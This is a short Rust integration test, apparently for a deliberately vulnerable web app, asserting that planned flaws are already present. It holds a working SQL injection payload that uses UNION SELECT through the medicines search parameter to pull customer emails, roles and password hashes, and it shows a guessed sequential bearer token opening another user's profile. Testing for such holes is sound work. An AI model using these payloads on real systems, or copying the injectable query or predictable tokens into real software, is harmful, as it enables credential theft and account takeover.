//! Flaws that later issues close: they are real already.

use serde_json::json;

use crate::client::Api;

#[tokio::test]
async fn the_flaws_of_later_issues_are_there() {
    let api = Api::start().await;
    let union = "x' UNION SELECT id, email, role, 0, 0, 0, password_hash, 0 \
                 FROM (SELECT *, 1 AS category FROM customers) WHERE '' LIKE '";
    let union = union.replace(' ', "%20").replace('\'', "%27");
    let stolen = api.get(&format!("/api/medicines?search={union}"), &[]).await;
    assert!(stolen.text().contains("fnv1a$"), "{}", stolen.text());
    api.token("bob").await;
    let guessed = "Authorization: Bearer ph-2-000001";
    assert_eq!(api.get("/api/profile", &[guessed]).await.json()["id"], json!(2));
}
